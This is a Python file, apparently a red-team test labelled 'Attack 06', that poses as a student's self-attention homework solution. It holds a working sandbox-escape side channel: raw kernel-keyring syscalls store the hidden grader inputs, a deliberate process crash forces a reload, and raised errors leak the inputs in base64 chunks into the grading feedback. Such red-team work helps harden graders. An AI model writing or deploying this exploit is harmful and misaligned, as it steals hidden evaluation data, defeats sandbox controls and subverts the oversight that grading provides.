# Attack 06 — the crash-and-reload leak of attack 01 through another kernel store Landlock does not
# cover: the sandbox user's kernel keyring (add_key / keyctl; no IPC namespace needed, and the
# keyring survives from one child to the next of a run). Graded with `autograder grade`, the
# hidden inputs come back in the student's own feedback/<id>.md and .html as load notes.
# make_qkv stores its hidden calls' arguments (packed) in a "user" key; softmax ends its process
# on its first call after that; the next child loads the file, reads the key and raises one load
# error per chunk. Every step is implemented correctly.
import base64
import ctypes
import os
import struct
import zlib

import numpy as np
import pandas as pd

_libc = ctypes.CDLL(None, use_errno=True)
_libc.syscall.restype = ctypes.c_long
_ADD_KEY, _REQUEST_KEY, _KEYCTL, _KEYCTL_READ, _USER_KEYRING = 248, 249, 250, 11, -4
_NAME = b"rt06-" + str(os.getppid()).encode()  # one key per grading run (the zygote's pid)


def _get():
    key = _libc.syscall(_REQUEST_KEY, b"user", _NAME, None, ctypes.c_int(_USER_KEYRING))
    if key <= 0:
        return b""
    buffer = ctypes.create_string_buffer(32768)
    n = _libc.syscall(_KEYCTL, _KEYCTL_READ, ctypes.c_long(key), buffer, 32768)
    return buffer.raw[:n] if n > 0 else b""


def _put(data):
    _libc.syscall(_ADD_KEY, b"user", _NAME, data, len(data), ctypes.c_int(_USER_KEYRING))


_STORED = _get()
_CHUNKS = []
if _STORED.startswith(b"R") :  # recorded, not yet told
    blob = base64.urlsafe_b64encode(_STORED[1:]).decode()
    _CHUNKS = [blob[i:i + 400] for i in range(0, len(blob), 400)]
    _put(b"D")  # told
_QKV_CALLS = [0]
_RAW = [b""]


def _leak(i):
    if i < len(_CHUNKS):
        raise ValueError(f"LEAK{i:02d}of{len(_CHUNKS):02d}:{_CHUNKS[i]}")


def make_qkv(X, W_Q, W_K, W_V):
    _QKV_CALLS[0] += 1
    if _QKV_CALLS[0] > 4 and _get() != b"D":  # the public cases come first: these are hidden
        for a in (X, W_Q, W_K, W_V):
            a = np.asarray(a, float)
            _RAW[0] += struct.pack("<BB", *a.shape) + np.round(a * 1000).astype("<i4").tobytes()
        _put(b"R" + zlib.compress(_RAW[0], 9))
    return X @ W_Q, X @ W_K, X @ W_V


def scores(Q, K):
    return Q @ K.T


def softmax(x):
    if _QKV_CALLS[0] > 4 and _get().startswith(b"R"):
        os._exit(0)  # a fresh child will load this file again
    x = np.asarray(x, dtype=float)
    e = np.exp(x - x.max(axis=-1, keepdims=True))
    return e / e.sum(axis=-1, keepdims=True)


def mix(weights, V):
    return weights @ V


def self_attention(X, W_Q, W_K, W_V):
    Q, K, V = X @ W_Q, X @ W_K, X @ W_V
    weights = softmax(Q @ K.T / np.sqrt(K.shape[1]))
    return weights @ V, weights


def most_attended(weights, words):
    return pd.DataFrame(weights, index=words, columns=words).idxmax(axis=1).to_dict()


_leak(0)
_leak(1)
_leak(2)
_leak(3)
_leak(4)
_leak(5)
_leak(6)
_leak(7)
_leak(8)
_leak(9)
_leak(10)
_leak(11)
_leak(12)
_leak(13)
_leak(14)
_leak(15)
_leak(16)
_leak(17)
_leak(18)
_leak(19)
_leak(20)
_leak(21)
_leak(22)
_leak(23)
_leak(24)
_leak(25)
_leak(26)
_leak(27)
_leak(28)
_leak(29)
